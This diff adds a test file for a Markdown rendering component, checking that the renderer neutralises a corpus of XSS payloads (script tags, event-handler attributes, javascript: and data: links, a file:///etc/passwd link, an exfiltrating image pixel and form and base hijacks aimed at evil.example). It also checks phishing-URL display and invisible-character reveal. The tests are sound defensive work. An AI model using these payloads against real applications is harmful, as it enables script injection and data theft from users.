@@ -1,0 +1,103 @@
+import { cleanup, fireEvent, render, screen } from '@testing-library/react'
+import { afterEach, describe, expect, it } from 'vitest'
+import { StoresProvider } from '#renderer/stores/react.tsx'
+import { createStores } from '#renderer/stores/stores.ts'
+import { createFakeLink } from '#renderer/testing/fake-link.ts'
+import { Markdown } from './markdown.tsx'
+
+const stores = createStores(createFakeLink())
+const show = (text: string) =>
+  render(
+    <StoresProvider stores={stores}>
+      <Markdown text={text} />
+    </StoresProvider>,
+  )
+
+afterEach(cleanup)
+
+/** Elements that run or fetch something, and attributes that do. */
+const dangerous = 'script,img,iframe,object,embed,svg:not(.i),video,audio,source,link,style,form,input,a,base,meta'
+const corpus = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox(1))',
+  '[x](file:///etc/passwd)',
+  '![x](https://evil.example/pixel.png?data=secret)',
+  '![x](javascript:alert(1))',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '<details open ontoggle=alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '```html\n<script>alert(1)</script>\n```',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '<javascript:alert(1)>',
+  '[<img src=x onerror=alert(1)>](https://ok.example)',
+  '"><script>alert(1)</script>',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name=x></form>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+]
+
+describe('Markdown', () => {
+  it.each(corpus)('shows %s as text and nothing else', (text) => {
+    const { container } = show(text)
+    expect([...container.querySelectorAll(dangerous)].map((element) => element.outerHTML)).toEqual([])
+    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes])
+    expect(attributes.filter(({ name }) => name.startsWith('on') || name === 'href' || name === 'src' || name === 'srcdoc')).toEqual([])
+  })
+
+  it('names an image and where it would come from, and loads nothing', () => {
+    const { container } = show('![a cat](https://pics.example/cat.png)')
+    expect(container.textContent).toContain('a cat')
+    expect(container.textContent).toContain('https://pics.example/cat.png')
+  })
+
+  it('opens a link only after its whole target was shown', async () => {
+    const link = createFakeLink({ answers: { 'app.openUrl': () => ({ by: 'host' }) } })
+    const own = createStores(link)
+    render(
+      <StoresProvider stores={own}>
+        <Markdown text="[your bank](https://login.northbank.example.evil.example/a?b=c)" />
+      </StoresProvider>,
+    )
+    fireEvent.click(screen.getByRole('button', { name: 'your bank' }))
+    expect(link.paramsOf('app.openUrl')).toEqual([])
+    const dialog = await screen.findByRole('dialog')
+    expect(dialog.querySelector('.url')?.textContent).toBe('https://login.northbank.example.evil.example/a?b=c')
+    expect(dialog.querySelector('.url b')?.textContent).toBe('evil.example')
+    fireEvent.click(screen.getByRole('button', { name: /Open in browser/ }))
+    expect(link.paramsOf('app.openUrl')).toEqual([{ url: 'https://login.northbank.example.evil.example/a?b=c' }])
+    own.dispose()
+  })
+
+  it('spells out characters that cannot be seen', () => {
+    const { container } = show('pay\u200bpal and `a\u202eb`')
+    expect([...container.querySelectorAll('.reveal')].map((one) => one.textContent)).toEqual(['zero-width space', 'right-to-left override'])
+  })
+
+  it('renders tables, task lists, headings and code', () => {
+    const { container } = show('# T\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```ts\nlet x\n```')
+    const tags = ['h3', 'table', 'td.r', 'li.task', '.tick.done', 'figure pre'].map(
+      (selector) => container.querySelectorAll(selector).length,
+    )
+    expect(tags).toEqual([1, 1, 1, 2, 1, 1])
+  })
+
+  it('keeps the elements of earlier blocks while text is added', () => {
+    const view = show('first\n\nsecond\n\nthird')
+    const before = [...view.container.querySelectorAll('p')]
+    view.rerender(
+      <StoresProvider stores={stores}>
+        <Markdown text={'first\n\nsecond\n\nthird and more'} />
+      </StoresProvider>,
+    )
+    const after = [...view.container.querySelectorAll('p')]
+    expect([after[0] === before[0], after[1] === before[1], after[2]?.textContent]).toEqual([true, true, 'third and more'])
+  })
+})
